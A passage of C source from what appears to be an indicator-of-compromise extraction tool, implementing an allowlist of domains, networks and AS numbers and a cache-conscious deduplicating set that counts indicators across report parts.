	return digest_table_hash(c + k, n - k, 0);
}

static void
tail_set(struct ioc_allowlist *al, const char *c)
{
	uint64_t h = tail_hash(c, strlen(c)) & al->tails_mask;

	al->tails[h / 64] |= (uint64_t)1 << (h % 64);
}

/* Add the name s, lowercased (put_lower), its tail's bit set: the bits
 * made anew, 32 a name, when there are fewer than 16 (a tail is falsely
 * found one time in 16 to 32). */
static void
put_name(struct ioc_allowlist *al, const char *s)
{
	size_t bits, k;

	put_lower(&al->names, s);	/* the last key (or one already there,
					 * its bit set) */
	if (16 * al->names.n <= al->tails_mask) {
		tail_set(al, al->names.keys[al->names.n - 1]);
		return;
	}
	for (bits = 1024; bits < 32 * al->names.n; bits *= 2)
		;
	free(al->tails);
	al->tails = xcalloc(bits / 64, sizeof(*al->tails));
	al->tails_mask = bits - 1;
	for (k = 0; k < al->names.n; k++)
		tail_set(al, al->names.keys[k]);
}

/* Whether the lowercase name c (n bytes) may lie under a listed one. */
static int
tails_listed(const struct ioc_allowlist *al, const char *c, size_t n)
{
	uint64_t h = tail_hash(c, n) & al->tails_mask;

	return al->tails[h / 64] >> (h % 64) & 1;
}

int
ioc_allowlist_add(struct ioc_allowlist *al, const char *entry)
{
	unsigned char addr[16];
	char *ascii = NULL, key[NET_KEY_MAX];
	int bits, i;

	while (*entry == ' ' || *entry == '\t')
		entry++;
	if (*entry == '\0')
		return -1;
	if (parse_net(entry, addr, &bits) == 0) {
		net_key(addr, bits, key);
		strmap_put(&al->nets, key, 1);
		for (i = 0; i < al->nbits && al->bits[i] < bits; i++)
			;
		if (i == al->nbits || al->bits[i] != bits) {
			memmove(al->bits + i + 1, al->bits + i,
			    (size_t)(al->nbits - i));
			al->bits[i] = (unsigned char)bits;
			al->nbits++;
		}
		return 0;
	}
	if (strchr(entry, '/') || (strspn(entry, "0123456789./:") ==
	    strlen(entry)))
		return -1;	/* an address or network gone wrong */
	if ((entry[0] == 'A' || entry[0] == 'a') && (entry[1] == 'S' ||
	    entry[1] == 's')) {
		const char *d = entry + 2 + (entry[2] == 'N' || entry[2] == 'n');

		d += strspn(d, " ");	/* "ASN 15169" */
		if (*d && digits_at(d) == strlen(d)) {
			char *as = xasprintf("as%s", d);

			exact_put(al, as);
			free(as);
			return 0;
		}
	}
	if (strchr(entry, '.') && idn2_lookup_u8((const uint8_t *)entry,
	    (uint8_t **)&ascii, IDN2_NFC_INPUT | IDN2_NONTRANSITIONAL) ==
	    IDN2_OK) {
		put_name(al, ascii);
		idn2_free(ascii);
		return 0;
	}
	exact_put(al, entry);
	return 0;
}

int
ioc_allowlist_load(struct ioc_allowlist *al, const char *path,
    struct errbuf *e)
{
	char line[1024], *p;
	int n = 0;
	FILE *f;

	if ((f = fopen(path, "r")) == NULL)
		return err_set(e, ST_CONFIG, "allowlist %s: %s", path,
		    strerror(errno));
	while (fgets(line, sizeof(line), f)) {
		n++;
		if ((p = strchr(line, '#')) != NULL)
			*p = '\0';
		p = line + strspn(line, " \t");
		p[strcspn(p, " \t\r\n")] = '\0';
		if (*p && ioc_allowlist_add(al, p) < 0) {
			fclose(f);
			return err_set(e, ST_CONFIG, "allowlist %s:%d: not a "
			    "domain, address, network or AS number: '%s'",
			    path, n, p);
		}
	}
	fclose(f);
	return 0;
}

/* name is an allowlisted domain or lies under one: each of its label
 * boundaries looked up. */
static int
name_allowed(const struct ioc_allowlist *al, const char *name, size_t n)
{
	char buf[LOWER_BUF], *c;
	size_t k;
	int hit = 0;

	if (al->names.n == 0)
		return 0;
	c = lower_copy(name, n, buf);
	for (k = tails_listed(al, c, n) ? 0 : n; !hit && c[k]; k++)
		hit = (k == 0 || c[k - 1] == '.') &&
		    strmap_get(&al->names, c + k) != NULL;
	if (c != buf)
		free(c);
	return hit;
}

/* host (an address, a bracketed IPv6, or a name) is allowlisted. An
 * address behind NAT64's prefix, 6to4's or Teredo's is its IPv4
 * host's, as a mapped one is (parse_net keeps IPv4 networks mapped). */
static int
host_allowed(const struct ioc_allowlist *al, const char *host, size_t n)
{
	unsigned char addr[16], v4[4];
	char buf[INET6_ADDRSTRLEN + 8], key[NET_KEY_MAX];
	int bits, i;

	if (n > 1 && host[0] == '[' && host[n - 1] == ']') {
		host++;
		n -= 2;
	}
	/* what parse_net takes ends in a digit or holds a ':' */
	if (n > 0 && n < sizeof(buf) && ((host[n - 1] >= '0' &&
	    host[n - 1] <= '9') || memchr(host, ':', n))) {
		memcpy(buf, host, n);
		buf[n] = '\0';
		if (parse_net(buf, addr, &bits) == 0) {
			if (bits == 128 &&
			    ipaddr_embedded4(addr, v4)) {
				/* NAT64's, 6to4's, Teredo's: mapped */
				memcpy(addr + 12, v4, 4);
				memset(addr, 0, 10);
				addr[10] = addr[11] = 0xff;
			}
			for (i = 0; i < al->nbits && al->bits[i] <= bits;
			    i++) {
				net_key(addr, al->bits[i], key);
				if (strmap_get(&al->nets, key))
					return 1;
			}
			return 0;
		}
	}
	return name_allowed(al, host, n);
}

int
ioc_allowed(const struct ioc_allowlist *al, const struct ioc *ioc)
{
	const char *v = ioc->value, *h, *end;

	if (al == NULL)
		return 0;
	switch (ioc->type) {
	case IOC_IPV4: case IOC_IPV6: case IOC_CIDR:
		return al->nbits && host_allowed(al, v, strlen(v));
	case IOC_DOMAIN:
		return name_allowed(al, v, strlen(v));
	case IOC_EMAIL:
		h = strrchr(v, '@');
		return h && host_allowed(al, h + 1, strlen(h + 1));
	case IOC_URL:
		h = strstr(v, "://");
		h = h ? h + 3 : v;
		end = h + strcspn(h, "/?#");
		if (memchr(h, '@', (size_t)(end - h)))
			h = (const char *)memrchr(h, '@', (size_t)(end - h)) + 1;
		if (*h == '[')
			end = strchr(h, ']') ? strchr(h, ']') + 1 : end;
		else
			end = h + strcspn(h, ":/?#");
		return host_allowed(al, h, (size_t)(end - h));
	default:
		return exact_listed(al, v);
	}
}

/*
 * The set of distinct indicators: entries in first-seen order, found
 * through an open-addressing table keyed by type and value. A 100 MB
 * report holds millions of occurrences of some ten thousand indicators,
 * and the table outgrows the processor's caches: a look-up waits on
 * memory. So a slot holds what a look-up compares first (the hash's high
 * half, the type, the length: the value itself is read only when all
 * match, which for a different value is one time in four billion),
 * and occurrences wait in a queue of SET_AHEAD while their slots are
 * fetched, so that the waits overlap. Every look-up is the full one, in
 * the order the occurrences came: the set is the same. Readers flush
 * the queue.
 */
#define SET_AHEAD 8		/* a power of two */
#define SET_BLOCK 65536		/* bytes of values per block, at least */

/* 16 bytes a slot, the table grown at 3/4: a scan list of 2.2 million
 * new addresses and names took 973 MB with 64-byte slots (48 bytes of
 * the value) grown at half, 241 MB so, and less time; the dense
 * corpus's 37,000 fit in 1 MB, with fewer cache misses than before. */
struct set_slot {		/* 16 bytes: four a cache line */
	uint32_t idx;		/* entry index + 1, 0 for empty */
	uint32_t check;		/* the hash's high half */
	uint32_t count;		/* occurrences not yet in the entry's */
	uint16_t len;		/* the value's length, up to UINT16_MAX */
	uint8_t type;
	uint8_t defanged;
};
_Static_assert(sizeof(struct set_slot) == 16, "a set slot is 16 bytes");

struct set_pending {
	struct ioc ioc;		/* value: in buf below */
	const struct ioc_allowlist *al;
	uint64_t h;
	struct buf value;
};

/* Strings kept in blocks of SET_BLOCK bytes or more, freed at once. */
struct arena {
	char **block;
	size_t nblocks, used, room;	/* blocks; bytes used and left in
					 * the last */
};

struct ioc_set {
	struct ioc_entry *e;	/* count and defanged: see ioc_set_flush */
	uint64_t *hash;		/* of each entry, for rehashing */
	size_t n, alloc;
	int stale;		/* entries behind their slots */
	struct set_slot *slot;
	size_t cap;
	struct arena values;	/* the values, NUL after each */
	struct arena url_keys;	/* the URLs remembered (url_put): apart,
				 * so that a URL's look-up reads from a
				 * few hundred KB, not from among the
				 * values' MB */
	struct set_pending q[SET_AHEAD];
	size_t head, queued;	/* the oldest waiting, how many wait */
	struct set_pending now;	/* set_add_at_once's */
	struct memo_slot *memo;	/* tokens seen: see memo_find */
	size_t memo_n, memo_cap;
	uint64_t *seen;		/* SEEN_SLOTS hashes: see memo_seen */
	struct url_slot *urls;	/* URLs seen: see url_find */
	size_t urls_n, urls_cap;
	uint64_t *join;		/* see ioc_sets_join; NULL until then */
	int joined;		/* join holds: nothing counted since */
};

/* A copy of value (len bytes), NUL after it, in a. */
static const char *
arena_keep(struct arena *a, const char *value, size_t len)
{
	char *p;

	if (len + 1 > a->room) {
		size_t size = len + 1 > SET_BLOCK ? len + 1 : SET_BLOCK;

		a->block = xreallocarray(a->block, a->nblocks + 1,
		    sizeof(*a->block));
		a->block[a->nblocks++] = xmalloc(size);
		a->used = 0;
		a->room = size;
	}
	p = a->block[a->nblocks - 1] + a->used;
	a->used += len + 1;
	a->room -= len + 1;
	memcpy(p, value, len);
	p[len] = '\0';
	return p;
}

static void
arena_free(struct arena *a)
{
	size_t i;

	for (i = 0; i < a->nblocks; i++)
		free(a->block[i]);
	free(a->block);
}

struct ioc_set *
ioc_set_new(void)
{
	struct ioc_set *set = xcalloc(1, sizeof(struct ioc_set));
	size_t i;

	for (i = 0; i < SET_AHEAD; i++)
		buf_init(&set->q[i].value, 0);
	buf_init(&set->now.value, 0);
	return set;
}

void
ioc_set_free(struct ioc_set *set)
{
	size_t i;

	if (set == NULL)
		return;
	arena_free(&set->values);
	arena_free(&set->url_keys);
	for (i = 0; i < SET_AHEAD; i++)
		buf_release(&set->q[i].value);
	buf_release(&set->now.value);
	free(set->memo);
	free(set->join);
	free(set->seen);
	free(set->urls);
	free(set->e);
	free(set->hash);
	free(set->slot);
	free(set);
}

static void
set_rehash(struct ioc_set *set)
{
	struct set_slot *old = set->slot;
	size_t i, j, oldcap = set->cap;

	/* (Memory runs out long before an index outgrows 32 bits.) */
	set->cap = set->cap ? lines_grow(set->cap, sizeof(*set->slot)) : 64;
	set->slot = xcalloc_lines(set->cap, sizeof(*set->slot));
	for (i = 0; i < oldcap; i++) {
		if (old[i].idx == 0)
			continue;
		for (j = set->hash[old[i].idx - 1] & (set->cap - 1);
		    set->slot[j].idx; j = (j + 1) & (set->cap - 1))
			;
		set->slot[j] = old[i];
	}
	free(old);
}

/* The slot of (type, value of len bytes): the entry's, or the empty one
 * where it would go. */
static struct set_slot *
set_find(const struct ioc_set *set, enum ioc_type type, const char *value,
    size_t len, uint64_t h)
{
	uint32_t check = (uint32_t)(h >> 32);
	size_t j;
	const struct set_slot *sl;
	const char *v;

	for (j = h & (set->cap - 1); (sl = &set->slot[j])->idx != 0;
	    j = (j + 1) & (set->cap - 1)) {
		if (sl->check != check || sl->type != type ||
		    sl->len != (len < UINT16_MAX ? len : UINT16_MAX))
			continue;
		v = set->e[sl->idx - 1].value;
		if (len < UINT16_MAX ? digest_table_same(v, value, len) :
		    strcmp(v, value) == 0)
			break;
	}
	return &set->slot[j];
}

/* The memo's slot of tok (len bytes): its, or the free one where it
 * would go. */
static struct memo_slot *
memo_find(const struct ioc_set *set, const char *tok, size_t len,
    uint64_t h)
{
	size_t j, mask = set->memo_cap - 1;
	struct memo_slot *m;
	const char *v;

	for (j = h & mask; (m = &set->memo[j])->idx != 0; j = (j + 1) & mask) {
		if (m->hash != h || m->len != len)
			continue;
		if (len <= MEMO_KEY) {
			if (digest_table_same(m->key, tok, len))
				break;
			continue;
		}
		memcpy(&v, m->key + MEMO_HEAD, sizeof(v));
		if (digest_table_same(m->key, tok, MEMO_HEAD) &&
		    digest_table_same(v + MEMO_HEAD, tok + MEMO_HEAD,
		    len - MEMO_HEAD))
			break;
	}
	return m;
}

static struct memo_slot *
memo_hit(const struct ioc_set *set, const char *tok, size_t len, uint64_t h)
{
	struct memo_slot *m;

	if (set->memo_cap == 0)
		return NULL;
	m = memo_find(set, tok, len, h);
	return m->idx ? m : NULL;
}

/* Remember that tok (len bytes) gave entry idx (+ 1). */
static void
memo_put(struct ioc_set *set, const char *tok, size_t len, uint64_t h,
    uint32_t idx, size_t at, int version)
{
	const char *v = set->e[idx - 1].value;
	struct memo_slot *m, *old = set->memo;
	size_t i, j, oldcap = set->memo_cap;

	if (!memo_room(set) || len > UINT16_MAX || at > UINT8_MAX ||
	    (len > MEMO_KEY && (strlen(v) != len || memcmp(v, tok, len) != 0)))
		return;
	if (2 * (set->memo_n + 1) > set->memo_cap) {
		set->memo_cap = set->memo_cap ?
		    lines_grow(set->memo_cap, sizeof(*set->memo)) : 256;
		set->memo = xcalloc_lines(set->memo_cap, sizeof(*set->memo));
		for (i = 0; i < oldcap; i++) {
			if (old[i].idx == 0)
				continue;
			for (j = old[i].hash & (set->memo_cap - 1);
			    set->memo[j].idx; j = (j + 1) & (set->memo_cap - 1))
				;
			set->memo[j] = old[i];
		}
		free(old);
	}
	m = memo_find(set, tok, len, h);
	if (m->idx)
		return;
	m->hash = h;
	m->idx = idx;
	m->len = (uint16_t)len;
	m->at = (uint8_t)at;
	m->version = (uint8_t)version;
	if (len <= MEMO_KEY) {
		memcpy(m->key, tok, len);
	} else {
		memcpy(m->key, tok, MEMO_HEAD);
		memcpy(m->key + MEMO_HEAD, &v, sizeof(v));
	}
	set->memo_n++;
}

/* One more occurrence of m's entry, not defanged: counted in m's line,
 * which the look-up has just read. */
static void
memo_count(struct ioc_set *set, struct memo_slot *m)
{
	if (m->count == UINT32_MAX) {
		set->e[m->idx - 1].count += m->count;
		m->count = 0;
	}
	m->count++;
	set->stale = 1;
}

/*
 * Whether the memo takes a token (its hash h) now. Its first MEMO_EAGER
 * at first sight: a report names most of its hosts and hashes again,
 * and a token taken at its second sight was read whole twice (token()
 * at both: 13-15% of a 10 MB run). Then only one seen lately: a scan
 * list's addresses and names come once each; remembered at first sight
 * they filled the memo's 65,536 with tokens that never came again, and
 * the look-ups of every new token missed in its 8 MB. A table of
 * SEEN_SLOTS hashes, one a slot, the last one staying (512 KB), tells;
 * a token the table lost is taken at its next sight.
 */
#define SEEN_SLOTS 65536

static int
memo_seen(struct ioc_set *set, uint64_t h)
{
	uint64_t *slot;

	if (set->memo_n < MEMO_EAGER)
		return 1;
	if (set->seen == NULL)
		set->seen = xcalloc_lines(SEEN_SLOTS, sizeof(*set->seen));
	slot = &set->seen[h & (SEEN_SLOTS - 1)];
	if (*slot == h)
		return 1;
	*slot = h;
	return 0;
}

/*
 * URLs remembered with their two entries (the URL's and its host's),
 * the second time they are read (memo_seen), URL_MAX at most: a slot
 * keeps the hash of the URL as written and its bytes among the set's
 * values, and counts its occurrences until the next flush.
 */
#define URL_MAX 65536

struct url_slot {		/* 32 bytes */
	uint64_t hash;
	const char *key;	/* the URL as written (refanged) */
	uint32_t len;
	uint32_t idx[2];	/* entries (index + 1); 0: a free slot */
	uint32_t count;		/* occurrences not yet on the entries */
};

static struct url_slot *
url_find(const struct ioc_set *set, const char *url, size_t len,
    uint64_t h)
{
	size_t j, mask = set->urls_cap - 1;
	struct url_slot *u;

	for (j = h & mask; (u = &set->urls[j])->idx[0] != 0;
	    j = (j + 1) & mask)
		if (u->hash == h && u->len == len &&
		    digest_table_same(u->key, url, len))
			break;
	return u;
}

static struct url_slot *
url_hit(struct ioc_set *set, const char *url, size_t len, uint64_t h)
{
	struct url_slot *u;

	if (set->urls_cap == 0)
		return NULL;
	u = url_find(set, url, len, h);
	return u->idx[0] ? u : NULL;
}

static void
url_put(struct ioc_set *set, const char *url, size_t len, uint64_t h,
    const uint32_t idx[2])
{
	struct url_slot *u, *old = set->urls;
	size_t i, j, oldcap = set->urls_cap;

	if (set->urls_n >= URL_MAX || len > UINT32_MAX)
		return;
	if (2 * (set->urls_n + 1) > set->urls_cap) {
		set->urls_cap = set->urls_cap ?
		    lines_grow(set->urls_cap, sizeof(*set->urls)) : 256;
		set->urls = xcalloc_lines(set->urls_cap, sizeof(*set->urls));
		for (i = 0; i < oldcap; i++) {
			if (old[i].idx[0] == 0)
				continue;
			for (j = old[i].hash & (set->urls_cap - 1);
			    set->urls[j].idx[0]; j = (j + 1) &
			    (set->urls_cap - 1))
				;
			set->urls[j] = old[i];
		}
		free(old);
	}
	u = url_find(set, url, len, h);
	if (u->idx[0])
		return;
	u->hash = h;
	u->key = arena_keep(&set->url_keys, url, len);
	u->len = (uint32_t)len;
	u->idx[0] = idx[0];
	u->idx[1] = idx[1];
	u->count = 0;
	set->urls_n++;
}

/* One more occurrence of u's URL and its host, not defanged otherwise
 * than the first. */
static void
url_count(struct ioc_set *set, struct url_slot *u)
{
	if (u->count == UINT32_MAX) {
		set->e[u->idx[0] - 1].count += u->count;
		set->e[u->idx[1] - 1].count += u->count;
		u->count = 0;
	}
	u->count++;
	set->stale = 1;
}

/* Whether the memo takes more tokens (else those added wait in the
 * queue as any other). */
static int
memo_room(const struct ioc_set *set)
{
	return set->memo_n < MEMO_MAX;
}

static void
memo_prefetch(const struct ioc_set *set, uint64_t h)
{
	if (set->memo_cap)
		__builtin_prefetch(&set->memo[h & (set->memo_cap - 1)]);
}

/* Record one occurrence now: its entry's index + 1. */
static uint32_t
set_add_now(struct ioc_set *set, const struct set_pending *p)
{
	const struct ioc *ioc = &p->ioc;
	size_t len = p->value.len;
	struct set_slot *slot;
	struct ioc_entry *e;

	if (4 * (set->n + 1) > 3 * set->cap)
		set_rehash(set);
	slot = set_find(set, ioc->type, p->value.data, len, p->h);
	set->stale = 1;
	if (slot->idx) {	/* the slot's line only: it is in cache */
		if (slot->count == UINT32_MAX) {
			set->e[slot->idx - 1].count += slot->count;
			slot->count = 0;
		}
		slot->count++;
		slot->defanged |= ioc->defanged != 0;
		return slot->idx;
	}
	if (set->n == set->alloc) {
		set->alloc = set->alloc ? 2 * set->alloc : 256;
		set->e = xreallocarray(set->e, set->alloc, sizeof(*set->e));
		set->hash = xreallocarray(set->hash, set->alloc,
		    sizeof(*set->hash));
	}
	e = &set->e[set->n];
	e->type = ioc->type;
	e->value = arena_keep(&set->values, p->value.data, len);
	e->class = ioc->class;
	e->defanged = ioc->defanged;
	e->allowlisted = ioc_allowed(p->al, &(struct ioc){ .type = ioc->type,
	    .value = e->value, .class = ioc->class });
	e->count = 0;	/* the slot's 1 comes with the next flush */
	e->first_offset = ioc->offset;
	set->hash[set->n] = p->h;
	slot->idx = (uint32_t)++set->n;
	slot->check = (uint32_t)(p->h >> 32);
	slot->type = (uint8_t)ioc->type;
	slot->count = 1;
	slot->defanged = ioc->defanged != 0;
	slot->len = (uint16_t)(len < UINT16_MAX ? len : UINT16_MAX);
	return slot->idx;
}

/* Everything waiting, recorded, and the entries' counts brought up to
 * their slots'. */
static void
set_flush_queue(struct ioc_set *set)
{
	for (; set->queued; set->queued--) {
		set_add_now(set, &set->q[set->head]);
		set->head = (set->head + 1) & (SET_AHEAD - 1);
	}
}

void
ioc_set_flush(struct ioc_set *set)
{
	size_t j;

	set_flush_queue(set);
	if (!set->stale)
		return;
	set->joined = 0;
	for (j = 0; j < set->memo_cap; j++) {
		if (set->memo[j].idx == 0)
			continue;
		set->e[set->memo[j].idx - 1].count += set->memo[j].count;
		set->memo[j].count = 0;
	}
	for (j = 0; j < set->urls_cap; j++) {
		struct url_slot *u = &set->urls[j];

		if (u->idx[0] == 0)
			continue;
		set->e[u->idx[0] - 1].count += u->count;
		set->e[u->idx[1] - 1].count += u->count;
		u->count = 0;
	}
	for (j = 0; j < set->cap; j++) {
		struct set_slot *sl = &set->slot[j];

		if (sl->idx == 0)
			continue;
		set->e[sl->idx - 1].count += sl->count;
		sl->count = 0;
		set->e[sl->idx - 1].defanged = sl->defanged;
	}
	set->stale = 0;
}

/* p made the occurrence ioc. */
static void
set_pend(struct set_pending *p, const struct ioc *ioc,
    const struct ioc_allowlist *al)
{
	p->ioc = *ioc;
	p->al = al;
	buf_reset(&p->value);
	buf_addstr(&p->value, ioc->value);
	p->h = digest_table_hash(p->value.data, p->value.len,
	    (uint64_t)ioc->type);
}

void
ioc_set_add(struct ioc_set *set, const struct ioc *ioc,
    const struct ioc_allowlist *al)
{
	struct set_pending *p;

	if (set->queued == SET_AHEAD) {
		set_add_now(set, &set->q[set->head]);
		set->head = (set->head + 1) & (SET_AHEAD - 1);
		set->queued--;
	}
	p = &set->q[(set->head + set->queued++) & (SET_AHEAD - 1)];
	set_pend(p, ioc, al);
	if (set->cap)
		__builtin_prefetch(&set->slot[p->h & (set->cap - 1)]);
}

/* ioc_set_add, done at once (after those waiting): the entry's index
 * + 1. */
static uint32_t
set_add_at_once(struct ioc_set *set, const struct ioc *ioc,
    const struct ioc_allowlist *al)
{
	set_flush_queue(set);
	set_pend(&set->now, ioc, al);
	return set_add_now(set, &set->now);
}

size_t
ioc_set_count(struct ioc_set *set)
{
	ioc_set_flush(set);
	return set->n;
}

int
ioc_set_contains(struct ioc_set *set, enum ioc_type type,
    const char *value)
{
	size_t len = strlen(value);

	ioc_set_flush(set);
	if (set->cap == 0)
		return 0;
	return set_find(set, type, value, len,
	    digest_table_hash(value, len, (uint64_t)type))->idx != 0;
}

const struct ioc_entry *
ioc_set_get(struct ioc_set *set, size_t i)
{
	ioc_set_flush(set);
	return i < set->n ? &set->e[i] : NULL;
}

size_t
ioc_set_mark(struct ioc_set *set)
{
	set_flush_queue(set);
	return set->n;
}

/*
 * What ioc_sets_each says of an entry of one set, in 8 bytes (a scan
 * list's set holds a million entries): its occurrences in every set
 * (JOIN_COUNT), defanged in any, and whether another set found it in an
 * earlier part (which then reports it).
 */
#define JOIN_LATER 1
#define JOIN_DEFANGED 2
#define JOIN_COUNT(j) ((size_t)((j) >> 2))

#define JOIN_AHEAD 8		/* entries whose slots are fetched ahead */

/* e (the i-th of set a) over the sets. */
static uint64_t
join_one(struct ioc_set *const *sets, size_t nsets, const struct ioc_set *a,
    size_t i)
{
	const struct ioc_entry *e = &a->e[i], *f;
	const struct set_slot *slot;
	size_t k, len = strlen(e->value), count = e->count;
	int defanged = e->defanged;

	for (k = 0; k < nsets; k++) {
		if (sets[k] == a || sets[k]->cap == 0)
			continue;
		slot = set_find(sets[k], e->type, e->value, len, a->hash[i]);
		if (slot->idx == 0)
			continue;
		f = &sets[k]->e[slot->idx - 1];
		if (f->first_offset < e->first_offset)
			return JOIN_LATER;	/* an earlier part had it */
		count += f->count;
		defanged |= f->defanged;
	}
	return (uint64_t)count << 2 | (defanged ? JOIN_DEFANGED : 0);
}

void
ioc_sets_join(struct ioc_set *const *sets, size_t nsets, size_t k)
{
	struct ioc_set *a = sets[k];
	size_t i, m;

	free(a->join);
	a->join = xreallocarray(NULL, a->n ? a->n : 1, sizeof(*a->join));
	a->joined = 1;
	for (i = 0; i < a->n; i++) {
		/* the slots a few entries on, fetched meanwhile */
		for (m = 0; i + JOIN_AHEAD < a->n && m < nsets; m++)
			if (sets[m] != a && sets[m]->cap)
				__builtin_prefetch(&sets[m]->slot[
				    a->hash[i + JOIN_AHEAD] &
				    (sets[m]->cap - 1)]);
		a->join[i] = join_one(sets, nsets, a, i);
	}
}

int
ioc_sets_each(struct ioc_set *const *sets, size_t nsets,
    const struct ioc_part *parts, size_t nparts, ioc_entry_fn fn, void *arg)
{
	struct ioc_entry one;
	size_t p, i, k;
	int rc, joined = 1;

	for (k = 0; k < nsets; k++) {
		ioc_set_flush(sets[k]);
		joined &= sets[k]->joined;
	}
	/* Not joined ahead, or one counted more since: each set's join
	 * holds the others' counts, so all are joined again. */
	for (k = 0; !joined && k < nsets; k++)
		ioc_sets_join(sets, nsets, k);
	for (p = 0; p < nparts; p++) {
		const struct ioc_set *a = sets[parts[p].set];

		for (i = parts[p].from; i < parts[p].to && i < a->n; i++) {
			if (a->join[i] & JOIN_LATER)
				continue;
			one = a->e[i];
			one.count = JOIN_COUNT(a->join[i]);
			one.defanged = (a->join[i] & JOIN_DEFANGED) != 0;
			if ((rc = fn(&one, arg)) != 0)
				return rc;
		}
	}
	return 0;
}

/* The network of "addr/len" in canonical form, into out. */
static int
network_key(const char *cidr, char *out, size_t size)
{
	unsigned char a[16];
	char addr[INET6_ADDRSTRLEN], *end;
	const char *slash = strchr(cidr, '/');
	int family, bits, max, i;
	long len;

	if (slash == NULL || (size_t)(slash - cidr) >= sizeof(addr))
		return -1;
	memcpy(addr, cidr, (size_t)(slash - cidr));
	addr[slash - cidr] = '\0';
	family = strchr(addr, ':') ? AF_INET6 : AF_INET;
	max = family == AF_INET6 ? 128 : 32;
	len = strtol(slash + 1, &end, 10);
	if (*end || end == slash + 1 || len < 0 || len > max ||
	    inet_pton(family, addr, a) != 1)
		return -1;
	for (i = 0; i < max / 8; i++) {
		bits = (int)len - 8 * i;
		if (bits <= 0)
			a[i] = 0;
		else if (bits < 8)
			a[i] &= (unsigned char)(0xff << (8 - bits));
	}
	if (inet_ntop(family, a, addr, sizeof(addr)) == NULL)
		return -1;
	return snprintf(out, size, "%s/%ld", addr, len) < (int)size ? 0 : -1;
}

int
ioc_search_key(const char *type, const char *value, char *out, size_t size)
{
	size_t n = strlen(value), i;

	if (strcmp(type, "cidr") == 0)
		return network_key(value, out, size);
	if (strcmp(type, "domain") != 0 || n >= size)
		return -1;
	for (i = 0; i < n; i++)
		out[i] = value[n - 1 - i];
	out[n] = '\0';
	return 0;
}

struct first {
	char *type;
	char *value;
};

static int
take_first(const struct ioc *ioc, void *arg)
{
	struct first *f = arg;

	snprintf(f->type, 16, "%s", ioc_type_name(ioc->type));
	f->value = xstrdup(ioc->value);
	return 1;
}

int
ioc_first(struct ioc_scanner *sc, const char *text, char type[16],
    char **value)
{
	struct first f = { type, NULL };

	type[0] = '\0';
	ioc_scan(sc, text, strlen(text), 0, take_first, &f);
	*value = f.value;
	return f.value != NULL;
}

int
ioc_registrable_domain(const char *domain, char *out, size_t size)
{
	const char *r = psl_registrable_domain(psl_builtin(), domain);

	if (r == NULL || strlen(r) >= size)
		return -1;
	memcpy(out, r, strlen(r) + 1);
	return 0;
}
